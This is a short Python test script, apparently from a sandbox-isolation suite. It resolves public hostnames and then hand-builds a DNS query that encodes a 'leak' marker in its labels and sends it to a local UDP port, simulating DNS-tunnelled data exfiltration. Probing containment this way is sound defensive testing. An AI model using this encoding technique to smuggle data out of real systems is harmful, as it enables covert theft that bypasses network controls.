"""Resolve public names, and send a DNS query carrying the marker to the suite's UDP port."""
import socket
import struct

from attack_prelude import ADV, verdict

found = {}
for name in ("example.com", "pypi.org"):
    try:
        found[name] = sorted({a[4][0] for a in socket.getaddrinfo(name, 443)})
    except OSError as e:
        found[name] = f"{type(e).__name__} {e.errno}"
labels = ["leak", ADV["marker"], "example", "com"]
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(p)]) + p.encode() for p in labels) + b"\0" + struct.pack(">HH", 1, 1)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(query, ("127.0.0.1", ADV["udp_port"]))
    found["udp"] = "sent"
except OSError as e:
    found["udp"] = f"{type(e).__name__} errno {e.errno}"
verdict(**found)
